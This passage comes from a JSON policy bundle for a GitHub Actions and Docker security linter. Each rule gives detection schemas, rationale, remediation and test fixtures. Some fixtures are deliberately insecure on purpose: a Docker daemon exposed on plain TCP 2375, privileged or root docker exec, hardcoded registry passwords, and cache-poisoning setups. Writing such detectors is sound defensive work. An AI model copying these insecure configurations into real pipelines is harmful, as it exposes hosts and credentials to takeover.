key: npm\\n    - uses: actions/setup-node@1d0ff469b7ec7b3cb9d8673fde0c81c44821de2a\\n    - run: npm ci\\n      shell: bash\\n","expect":[{"line":6,"column":7,"endLine":6,"endColumn":29}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  build:\\n    uses: $/.github/workflows/build.yml\\n  publish:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: $/.github/actions/publish\\n      - uses: ./.github/actions/notify\\n","expect":[]}],"source":"policies/workflows/action-not-pinned.yaml"},{"id":"command-docker-daemon-tcp-without-tls","pack":"workflows","title":"Docker daemon reached or exposed over plain TCP in a script","severity":"high","subject":"command","when":{"properties":{"origin":{"enum":["workflow","action"]}}},"schema":{"properties":{"env":{"properties":{"DOCKER_HOST":{"not":{"pattern":{"$param":"plaintextHost"}}}}},"docker":{"properties":{"globalFlags":{"properties":{"host":{"items":{"not":{"pattern":{"$param":"plaintextHost"}}}}}}}}},"if":{"properties":{"name":{"const":"dockerd"}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"plaintextHost"}}}}}}},"message":"This script talks to (or starts) a Docker daemon on plain TCP port 2375: that API has no authentication, so anything that can reach the port can start a privileged container and own the machine. Use the local socket, or `tcp://\u2026:2376` with `--tlsverify` and client certificates.","rationale":"The Docker API is root-equivalent. On the Unix socket it is protected by file permissions; on TCP without TLS it is open to every process and host that can reach the port, with no authentication, and traffic can be read or altered in transit. Exposed daemons on 2375 are actively scanned for and turned into crypto-miners within minutes. Docker\'s documentation and the OWASP cheat sheet (rule 1) require TLS with client certificates (port 2376) or SSH when the daemon must be reached remotely.","remediation":"Keep using the local socket, or protect the TCP endpoint:\\n\\n```yaml\\n- run: docker --tlsverify -H tcp://docker.example.com:2376 ps\\n  env:\\n    DOCKER_CERT_PATH: ${{ runner.temp }}/docker-certs\\n```\\n\\nFor remote builders, `DOCKER_HOST=ssh://deploy@builder.example.com` uses SSH instead.","references":[{"framework":"owasp-docker","id":"RULE #1"},{"framework":"url","url":"https://docs.docker.com/engine/security/protect-access/"}],"params":{"plaintextHost":"^(--host=|-H)?tcp://[^\\\\s/:]*(:2375)?/?$"},"paramSchemas":{"plaintextHost":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A Docker host on TCP without TLS: port 2375, or no port (which the CLI also resolves to 2375)."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          sudo dockerd -H unix:///var/run/docker.sock -H tcp://0.0.0.0:2375 &\\n          DOCKER_HOST=tcp://127.0.0.1:2375 docker ps\\n          docker -H tcp://10.0.0.5 info\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":78},{"line":8,"column":11,"endLine":8,"endColumn":53},{"line":9,"column":11,"endLine":9,"endColumn":40}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker --tlsverify -H tcp://docker.example.com:2376 ps\\n          DOCKER_HOST=ssh://deploy@builder.example.com docker info\\n","expect":[]}],"source":"policies/workflows/command-docker-daemon-tcp-without-tls.yaml"},{"id":"command-docker-exec-privileged","pack":"workflows","title":"docker exec runs privileged or as root","severity":"medium","subject":"command","when":{"required":["docker"],"properties":{"origin":{"enum":["workflow","action"]},"docker":{"properties":{"subcommand":{"const":"exec"}}}}},"schema":{"properties":{"docker":{"properties":{"flags":{"properties":{"privileged":{"items":{"not":{"enum":["true","1","t","T","TRUE","True"]}}},"user":{"items":{"not":{"pattern":{"$param":"rootUser"}}}}}}}}}},"message":"`docker exec` here runs with `{{key}}` set to `{{value}}`, handing the command more power than the container itself was given (every capability with `--privileged`, root with `-u root`). Run it as the container\'s own user and without `--privileged`.","rationale":"`docker exec --privileged` gives the new process every capability and device access even in a container that was started unprivileged, and `docker exec -u root` bypasses the container\'s non-root USER. Either undoes the hardening the container was started with, for a command that often processes untrusted input in CI. The CIS Docker Benchmark asks that exec commands not use the privileged option (5.23) or the root user (5.24).","remediation":"```yaml\\n- run: docker exec app ./manage.py migrate\\n```\\n\\nIf a task needs root, build it into the image or run a separate, short-lived container for it.","references":[{"framework":"cis-docker","id":"1.6.0:5.23"},{"framework":"cis-docker","id":"1.6.0:5.24"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/container/exec/"}],"params":{"rootUser":"^(root|0)(:.*)?$"},"paramSchemas":{"rootUser":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A `--user` value that means root: the name or UID, with or without a group."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run -d --name app ghcr.io/example/app:1.4.2\\n          docker exec --privileged app mount -t tmpfs none /mnt\\n          docker exec -u root app apt-get install -y curl\\n","expect":[{"line":8,"column":11,"endLine":8,"endColumn":64},{"line":9,"column":11,"endLine":9,"endColumn":58}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker exec app ./manage.py migrate\\n          docker exec -u 10001 app id\\n","expect":[]}],"source":"policies/workflows/command-docker-exec-privileged.yaml"},{"id":"command-docker-login-password","pack":"workflows","title":"docker login with a password written in the script","severity":"high","subject":"command","when":{"required":["docker"],"properties":{"origin":{"enum":["workflow","action"]},"docker":{"properties":{"subcommand":{"const":"login"}}}}},"schema":{"properties":{"docker":{"properties":{"flags":{"properties":{"password":{"items":{"pattern":{"$param":"expression"}}}}}}}}},"message":"`docker login` is given a password written in the script, so it is in the repository for anyone to read, and `-p` also puts it in the process list. Pipe a secret in instead: `echo \\"${{ secrets.REGISTRY_TOKEN }}\\" | docker login -u bot --password-stdin ghcr.io`, or use docker/login-action.","rationale":"A password written in a workflow\'s `run:` script is committed to the repository\'s history, visible to everyone with read access and copied into every fork, and it cannot be masked in logs because GitHub does not know it is a secret. Docker itself warns that `--password` on the command line is insecure: the value shows up in `ps` and shell history. The OWASP cheat sheet (rule 12) asks that secrets be kept out of files and command lines.","remediation":"```yaml\\n- name: Log in to the registry\\n  run: echo \\"$REGISTRY_TOKEN\\" | docker login -u ci-bot --password-stdin registry.example.com\\n  env:\\n    REGISTRY_TOKEN: ${{ secrets.REGISTRY_TOKEN }}\\n```\\n\\nor `uses: docker/login-action@<sha>` with `password: ${{ secrets.REGISTRY_TOKEN }}`. Rotate the\\npassword that was committed.","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/login/#password-stdin"}],"params":{"expression":"\\\\$"},"paramSchemas":{"expression":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A password value that comes from somewhere else (an expression or a shell variable) rather than being written in the file."}},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  push:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker login -u ci-bot -p \'hunter2-hunter2\' registry.example.com\\n          docker push registry.example.com/app:1.4.2\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":75}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  push:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: echo \\"$TOKEN\\" | docker login -u ci-bot --password-stdin registry.example.com\\n        env:\\n          TOKEN: ${{ secrets.REGISTRY_TOKEN }}\\n      - run: docker login -u ci-bot --password \\"$TOKEN\\" registry.example.com\\n","expect":[]}],"source":"policies/workflows/command-docker-login-password.yaml"},{"id":"container-registry-password-literal","pack":"workflows","title":"Registry password written in a job or service container\'s credentials","severity":"high","subject":"container","when":{"required":["credentials"],"properties":{"origin":{"enum":["job-container","job-service"]}}},"schema":{"properties":{"credentials":{"properties":{"password":{"pattern":{"$param":"expression"}}}}}},"message":"{{name}} writes its registry password into the workflow, where everyone who can read the repository (and every fork) can copy it. Store it as an encrypted secret and write `password: ${{ secrets.REGISTRY_PASSWORD }}`.","rationale":"A password in a workflow file is committed to the repository\'s history, copied into forks and visible to anyone with read access; rotating it does not remove the old value from history. GitHub encrypts repository and organisation secrets, masks them in logs and withholds them from workflows triggered by forks. For GitHub Container Registry, the job\'s own `GITHUB_TOKEN` needs no stored password at all. The OWASP cheat sheet (rule 12) asks that secrets never be written in configuration files.","remediation":"```yaml\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ghcr.io/example/ci:1.4.2\\n      credentials:\\n        username: ${{ github.actor }}\\n        password: ${{ secrets.GITHUB_TOKEN }}\\n```\\n\\nThen rotate the password that was committed: it stays in the repository\'s history.","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idcontainercredentials"}],"params":{"expression":"\\\\$\\\\{\\\\{"},"paramSchemas":{"expression":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A value that comes from somewhere else: a `${{ secrets.X }}` (or any other) expression."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: registry.example.com/ci/node:22\\n      credentials:\\n        username: ci-bot\\n        password: hunter2-hunter2\\n    services:\\n      db:\\n        image: registry.example.com/ci/postgres:16\\n        credentials:\\n          username: ci-bot\\n          password: ${{ secrets.REGISTRY_PASSWORD }}\\n    steps:\\n      - run: npm test\\n","expect":[{"line":9,"column":9,"endLine":9,"endColumn":34}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ghcr.io/example/ci:1.4.2\\n      credentials:\\n        username: ${{ github.actor }}\\n        password: ${{ secrets.GITHUB_TOKEN }}\\n    steps:\\n      - run: npm test\\n","expect":[]}],"source":"policies/workflows/container-registry-password-literal.yaml"},{"id":"workflow-build-cache-from-gha-untrusted-trigger","pack":"workflows","title":"Published image restored from a cache outsiders can write","severity":"medium","subject":"workflow.step","when":{"required":["triggers"],"properties":{"triggers":{"contains":{"enum":{"$param":"untrustedTriggers"}}}}},"schema":{"not":{"anyOf":[{"required":["uses","with"],"properties":{"uses":{"pattern":"^(?i:docker/build-push-action|docker/bake-action)(@|$)"},"with":{"required":["cache-from","push"],"properties":{"cache-from":{"pattern":"type=gha"},"push":{"pattern":"^\\\\s*(?:true|\\\\$\\\\{\\\\{)"}}}}},{"required":["commands"],"properties":{"commands":{"contains":{"pattern":"--cache-from[= ]\\\\S*type=gha.*--push|--push.*--cache-from[= ]\\\\S*type=gha"}}}}]}},"message":"This step publishes an image built with layers restored from the GitHub Actions cache (`cache-from: type=gha`) in a workflow that outsiders can start (`pull_request_target`, `issue_comment`, \u2026): a run they trigger can write poisoned layers to that cache, which this build then ships. Do not restore the cache in workflows that publish, or split the untrusted trigger into its own workflow without cache writes.","rationale":"The GitHub Actions cache is shared by every run in the default branch\'s scope, and runs started by `pull_request_target`, `issue_comment` or `workflow_run` have that scope. A workflow that such an event can start, and that writes to the cache, lets whoever starts it replace cached build layers; BuildKit reuses a cached layer instead of running its RUN line, so a later publishing build ships what the attacker put there. GitHub\'s cache is scoped by branch, not by who wrote it.","remediation":"```yaml\\n- uses: docker/build-push-action@<sha>\\n  with:\\n    push: ${{ github.event_name == \'push\' }}\\n    # no cache-from: type=gha in a workflow outsiders can start\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/dependency-caching#restrictions-for-accessing-a-cache"},{"framework":"url","url":"https://adnanthekhan.com/2024/05/06/the-monsters-in-your-build-cache-github-actions-cache-poisoning/"},{"framework":"url","url":"https://docs.docker.com/build/cache/backends/gha/"}],"params":{"untrustedTriggers":["pull_request_target","issue_comment","workflow_run","issues","discussion_comment","pull_request_review_comment"]},"paramSchemas":{"untrustedTriggers":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Events an outsider can start that run in the base branch\'s cache scope, so that what they write to the GitHub Actions cache is restored by later runs of the default branch."}},"tests":[{"file":".github/workflows/image.yml","content":"on:\\n  push:\\n    branches: [main]\\n  pull_request_target:\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@263435318d21b8e681c14492fe198d362a7d2c83\\n        with:\\n          push: ${{ github.event_name == \'push\' }}\\n          cache-from: type=gha\\n          cache-to: type=gha,mode=max\\n      - run: docker buildx build --cache-from type=gha --push -t ghcr.io/acme/app .\\n","expect":[{"line":9,"column":9,"endLine":9,"endColumn":80},{"line":14,"column":9,"endLine":14,"endColumn":84}]},{"file":".github/workflows/image.yml","content":"on:\\n  push:\\n    branches: [main]\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@263435318d21b8e681c14492fe198d362a7d2c83\\n        with:\\n          push: true\\n          cache-from: type=gha\\n","expect":[]}],"source":"policies/workflows/workflow-build-cache-from-gha-untrusted-trigger.yaml"},{"id":"workflow-checkout-credential-in-build-context","pack":"workflows","title":"Build context sends the checkout\'s token to Docker","severity":"high","subject":"workflow.step","when":{"required":["credentialPersisted","buildContexts"]},"schema":{"properties":{"gitInBuildContext":false}},"message":"This step builds the repository root after `actions/checkout` left the job\'s token in `.git/config`, and no `.dockerignore` excludes `.git`, so the token is sent to the build and a `COPY . .` puts it in an image layer anyone who pulls the image can read. Add `.git` to `.dockerignore`, or set `persist-credentials: false` on the checkout.","rationale":"`actions/checkout` writes the job\'s `GITHUB_TOKEN` (or the token it was given) into `.git/config` unless `persist-credentials: false` is set, so that later git commands can push. `docker build .` sends the whole directory, `.git` included, unless `.dockerignore` excludes it; a Dockerfile that copies the context keeps the token in a layer of the published image, and any RUN step can read it during the build. The check reads the repository\'s `.dockerignore` (and `<Dockerfile>.dockerignore`): on a pull request that is the pull request\'s own file, which only clears the finding when it truly excludes `.git/config` (a `!` pattern that could re-include anything under `.git` counts as not excluding it), and that file is then what gets merged.","remediation":"```yaml\\n- uses: actions/checkout@<sha>\\n  with:\\n    persist-credentials: false\\n- run: docker build -t app .\\n```\\nand in `.dockerignore`:\\n```\\n.git\\n```","references":[{"framework":"url","url":"https://github.com/actions/checkout#usage"},{"framework":"url","url":"https://docs.docker.com/build/concepts/context/#dockerignore-files"},{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#considering-cross-repository-access"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/image.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n      - run: docker build -t ghcr.io/acme/app:${{ github.sha }} .\\n      - uses: docker/build-push-action@263435318d21b8e681c14492fe198d362a7d2c83\\n        with:\\n          context: .\\n          push: true\\n","expect":[{"line":7,"column":9,"endLine":7,"endColumn":66},{"line":8,"column":9,"endLine":8,"endColumn":80}]},{"file":".github/workflows/image.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n        with:\\n          persist-credentials: false\\n      - run: docker build -t app .\\n  other:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n      - run: docker build -t app services/api\\n      - uses: docker/build-push-action@263435318d21b8e681c14492fe198d362a7d2c83\\n        with:\\n          push: true\\n","expect":[]}],"source":"policies/workflows/workflow-checkout-credential-in-build-context.yaml"},{"id":"workflow-container-literal-secret","pack":"workflows","title":"Secret written into a job or service container\'s env","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["job-container","job-service"]}}},"schema":{"properties":{"environment":{"patternProperties":{"^(?:[A-Za-z0-9]+_)*(?:PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(?:_[A-Za-z0-9_]*)?$(?<!(?:^|_)(?:PUBLIC|public|Public)(?:_[A-Za-z0-9_]*)?)(?<!_(?:FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|METHOD|PROVIDER|MODE|LENGTH|TTL|EXPIRY|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type|method|provider|mode))":{"not":{"type":"string","pattern":{"$param":"literalValue"}}}}}}},"message":"{{name}} sets `{{key}}` to a value written in the workflow. For a throwaway test database that is harmless, but a real credential is now readable by everyone with access to the repository. Use `${{ secrets.\u2026 }}` for anything that is not a disposable test value.","rationale":"Service containers in CI usually get a made-up password for a database that lives for one job, which is why this rule is low severity. The same place is also where real credentials for licensed images, external services or shared test environments end up, and a value written in the workflow is committed, visible to every reader and fork, and not masked in logs. The OWASP cheat sheet (rule 12) asks that secrets never be written into configuration files.","remediation":"```yaml\\nservices:\\n  db:\\n    image: postgres:16\\n    env:\\n      POSTGRES_PASSWORD: ${{ secrets.CI_DB_PASSWORD }}   # or a disposable value, suppressed\\n```\\n\\nA disposable value can be kept with an inline suppression that says so:\\n`# containment: ignore[workflow-container-literal-secret] throwaway CI database`.","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions"}],"params":{"literalValue":"^[^$]+$"},"paramSchemas":{"literalValue":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A value that is not written in the file: an expression or a shell variable."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      env:\\n        NPM_TOKEN: npm_abcdefghijklmnop\\n    services:\\n      db:\\n        image: postgres:16\\n        env:\\n          POSTGRES_USER: app\\n          POSTGRES_PASSWORD: postgres\\n    steps:\\n      - run: npm test\\n","expect":[{"line":8,"column":9,"endLine":8,"endColumn":40},{"line":14,"column":11,"endLine":14,"endColumn":38}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      db:\\n        image: postgres:16\\n        env:\\n          POSTGRES_PASSWORD: ${{ secrets.CI_DB_PASSWORD }}\\n          POSTGRES_HOST_AUTH_METHOD: trust\\n    steps:\\n      - run: npm test\\n","expect":[]}],"source":"policies/workflows/workflow-container-literal-secret.yaml"},{"id":"workflow-docker-daemon-tcp-without-tls","pack":"workflows","title":"Workflow step points Docker at, or exposes, a daemon on plain TCP","severity":"medium","subject":"workflow.step","schema":{"properties":{"env":{"properties":{"DOCKER_HOST":{"not":{"pattern":{"$param":"plaintextHost"}}}}}},"if":{"required":["uses"],"properties":{"uses":{"pattern":"^docker/setup-docker-action(@|$)"}}},"then":{"properties":{"with":{"properties":{"tcp-port":false}}}}},"message":"This step sets `{{key}}` so that Docker is reached over plain TCP, where its API has no authentication: anything that can reach the port can start privileged containers on that daemon. Use the local socket (the default), or TLS on port 2376 with client certificates.","rationale":"The Docker API is root-equivalent, and on TCP without TLS anyone who can reach the port can use it. A `DOCKER_HOST=tcp://\u2026:2375` in a workflow usually points at a Docker-in-Docker service or a remote builder whose port is then open to every container and process on that network. The OWASP cheat sheet (rule 1) asks never to expose the daemon without TLS.","remediation":"Leave `DOCKER_HOST` unset to use the runner\'s socket, or use TLS:\\n\\n```yaml\\nenv:\\n  DOCKER_HOST: tcp://docker:2376\\n  DOCKER_TLS_VERIFY: \\"1\\"\\n  DOCKER_CERT_PATH: /certs/client\\n```","references":[{"framework":"owasp-docker","id":"RULE #1"},{"framework":"url","url":"https://docs.docker.com/engine/security/protect-access/"}],"params":{"plaintextHost":"^tcp://[^\\\\s/:]*(:2375)?/?$"},"paramSchemas":{"plaintextHost":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A `DOCKER_HOST` on TCP without TLS: port 2375, or no port (which the CLI also resolves to 2375)."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/setup-docker-action@v4\\n        with:\\n          tcp-port: 2375\\n      - run: docker info\\n        env:\\n          DOCKER_HOST: tcp://localhost:2375\\n","expect":[{"line":8,"column":11,"endLine":8,"endColumn":25},{"line":11,"column":11,"endLine":11,"endColumn":44}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/setup-docker-action@v4\\n        with:\\n          set-host: true\\n      - run: docker info\\n        env:\\n          DOCKER_HOST: tcp://docker:2376\\n          DOCKER_TLS_VERIFY: \\"1\\"\\n","expect":[]}],"source":"policies/workflows/workflow-docker-daemon-tcp-without-tls.yaml"},{"id":"workflow-image-push-without-attestations","pack":"workflows","title":"Image pushed without SBOM and provenance attestations","severity":"low","subject":"workflow.step","when":{"required":["uses","with"],"properties":{"uses":{"pattern":"^docker/build-push-action(@|$)"},"with":{"required":["push"],"properties":{"push":{"const":"true"}}}}},"schema":{"properties":{"with":{"required":["sbom"],"properties":{"sbom":{"const":"true"},"provenance":{"not":{"enum":["false","0"]}}}}}},"message":"This step pushes an image without {{key}} attestations, so consumers cannot verify how it was built or see what it contains when a vulnerability is announced. Add `sbom: true` and keep provenance on (`provenance: mode=max`).","rationale":"An SBOM attestation lists the packages in the image, which lets scanners and consumers answer \\"are we affected?\\" without pulling and unpacking it. A provenance attestation records the source repository, commit, build parameters and builder, which lets consumers check that the image was built from this repository by this workflow. BuildKit attaches both to the pushed image; docker/build-push-action adds provenance by default (`mode=max` for public repositories, `mode=min` for private ones) unless `provenance: false`, but an SBOM only with `sbom: true`. The OWASP cheat sheet\'s supply-chain rule (13) and Docker Scout rely on them.","remediation":"```yaml\\n- uses: docker/build-push-action@<sha>\\n  with:\\n    push: true\\n    tags: ghcr.io/example/app:1.4.2\\n    sbom: true\\n    provenance: mode=max\\n```","references":[{"framework":"owasp-docker","id":"RULE #13"},{"framework":"url","url":"https://docs.docker.com/build/ci/github-actions/attestations/"},{"framework":"url","url":"https://docs.docker.com/build/metadata/attestations/"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: true\\n          tags: ghcr.io/example/app:1.4.2\\n          provenance: false\\n","expect":[{"line":7,"column":9,"endLine":7,"endColumn":13},{"line":10,"column":11,"endLine":10,"endColumn":28}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: true\\n          tags: ghcr.io/example/app:1.4.2\\n          sbom: true\\n          provenance: mode=max\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: false\\n          load: true\\n          tags: app:test\\n","expect":[]}],"source":"policies/workflows/workflow-image-push-without-attestations.yaml"},{"id":"workflow-job-permissions-write-all","pack":"workflows","title":"Job grants the GITHUB_TOKEN every write permission","severity":"medium","subject":"workflow.job","schema":{"properties":{"permissions":{"not":{"const":"write-all"}}}},"message":"Job {{name}} sets `permissions: write-all`, so every step in it, including third-party actions, holds a token that can push code, publish packages and change releases. List only the scopes this job needs, e.g. `permissions: { contents: read, packages: write }`.","rationale":"The `GITHUB_TOKEN` is available to every step of the job. `write-all` turns any compromised action or injected script into write access to the repository and its packages. Least privilege means naming the scopes each job needs.","remediation":"```yaml\\njobs:\\n  publish:\\n    permissions:\\n      contents: read\\n      packages: write\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idpermissions"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\npermissions:\\n  contents: read\\njobs:\\n  release:\\n    runs-on: ubuntu-latest\\n    permissions: write-all\\n    steps:\\n      - run: make release\\n","expect":[{"line":7,"column":5,"endLine":7,"endColumn":27}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  release:\\n    runs-on: ubuntu-latest\\n    permissions:\\n      contents: write\\n    steps:\\n      - run: make release\\n","expect":[]}],"source":"policies/workflows/workflow-job-permissions-write-all.yaml"},{"id":"workflow-login-action-password-literal","pack":"workflows","title":"docker/login-action given a password written in the workflow","severity":"high","subject":"workflow.step","when":{"required":["uses"],"properties":{"uses":{"pattern":"^docker/login-action(@|$)"}}},"schema":{"properties":{"with":{"properties":{"password":{"pattern":"^$|\\\\$\\\\{\\\\{"}}}}},"message":"This docker/login-action step writes the registry password into the workflow, where everyone who can read the repository can copy it. Store it as a secret and write `password: ${{ secrets.REGISTRY_TOKEN }}` (or `${{ secrets.GITHUB_TOKEN }}` for ghcr.io).","rationale":"docker/login-action masks the password only when it comes from a secret; a literal value is part of the committed file, visible to every reader and fork and kept in history after it is changed. The OWASP cheat sheet (rule 12) asks that secrets never be written in configuration files.","remediation":"```yaml\\n- uses: docker/login-action@<full commit sha> # v3\\n  with:\\n    registry: ghcr.io\\n    username: ${{ github.actor }}\\n    password: ${{ secrets.GITHUB_TOKEN }}\\n```\\n\\nRotate the password that was committed.","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/build/ci/github-actions/push-multi-registries/"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  push:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/login-action@v3\\n        with:\\n          registry: registry.example.com\\n          username: ci-bot\\n          password: hunter2-hunter2\\n","expect":[{"line":10,"column":11,"endLine":10,"endColumn":36}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  push:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/login-action@74a5d142397b4f367a81961eba4e8cd7edddf772\\n        with:\\n          registry: ghcr.io\\n          username: ${{ github.actor }}\\n          password: ${{ secrets.GITHUB_TOKEN }}\\n","expect":[]}],"source":"policies/workflows/workflow-login-action-password-literal.yaml"},{"id":"workflow-permissions-missing","pack":"workflows","title":"Workflow does not limit the GITHUB_TOKEN\'s permissions","severity":"low","subject":"workflow","when":{"properties":{"inheritingJobs":{"minItems":1}}},"schema":{"required":["permissions"]},"message":"This workflow does not declare `permissions:`, so its jobs get the repository\'s default token permissions, which may include write access to code, packages and releases. Add `permissions: { contents: read }` at the top and grant more only to the jobs that need it.","rationale":"Every job receives a `GITHUB_TOKEN`. Without a `permissions:` block its scopes are the repository\'s or organisation\'s default, which for older repositories is read and write on almost everything. A compromised step (a malicious action, an injected script) can then push code, publish packages or alter releases. Declaring the minimum at the workflow level makes the token\'s power visible in review; a workflow whose every job declares its own is not reported. A reusable workflow is judged too: its `permissions:` can only lower what its caller grants, so declaring them keeps a caller\'s broad token out of it. OpenSSF Scorecard\'s Token-Permissions check asks the same.","remediation":"```yaml\\npermissions:\\n  contents: read\\njobs:\\n  publish:\\n    permissions:\\n      contents: read\\n      packages: write   # only this job pushes images\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication#modifying-the-permissions-for-the-github_token"},{"framework":"url","url":"https://docs.github.com/en/actions/how-tos/reuse-automations/reuse-workflows#access-and-permissions"},{"framework":"url","url":"https://github.com/ossf/scorecard/blob/main/docs/checks.md#token-permissions"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: npm test\\n","expect":[{"line":1,"column":1,"endLine":1,"endColumn":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\npermissions:\\n  contents: read\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: npm test\\n","expect":[]},{"file":".github/workflows/reusable.yml","content":"on: workflow_call\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: npm test\\n","expect":[{"line":1,"column":1,"endLine":1,"endColumn":18}]},{"file":".github/workflows/reusable.yml","content":"on:\\n  workflow_call:\\n    inputs:\\n      image: { type: string, required: true }\\npermissions:\\n  contents: read\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: npm test\\n","expect":[]}],"source":"policies/workflows/workflow-permissions-missing.yaml"},{"id":"workflow-permissions-write-all","pack":"workflows","title":"Workflow grants the GITHUB_TOKEN every write permission","severity":"medium","subject":"workflow","schema":{"properties":{"permissions":{"not":{"const":"write-all"}}}},"message":"`permissions: write-all` gives every job of this workflow a token that can push code, publish packages, change releases and more, so any compromised step can do all of that. List only the scopes the jobs need, e.g. `permissions: { contents: read, packages: write }`.","rationale":"The `GITHUB_TOKEN` is available to every step, including third-party actions and scripts that process untrusted input. `write-all` turns any weakness in any of them into write access to the repository and its packages. Least privilege means naming the scopes each job needs.","remediation":"```yaml\\npermissions:\\n  contents: read\\n  packages: write\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#permissions"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\npermissions: write-all\\njobs:\\n  release:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: make release\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":23}]},{"file":".github/workflows/release.yml","content":"on: push\\npermissions:\\n  contents: write\\njobs:\\n  release:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: make release\\n","expect":[]}],"source":"policies/workflows/workflow-permissions-write-all.yaml"},{"id":"workflow-permissions-write-scope","pack":"workflows","title":"Workflow grants a write scope to every 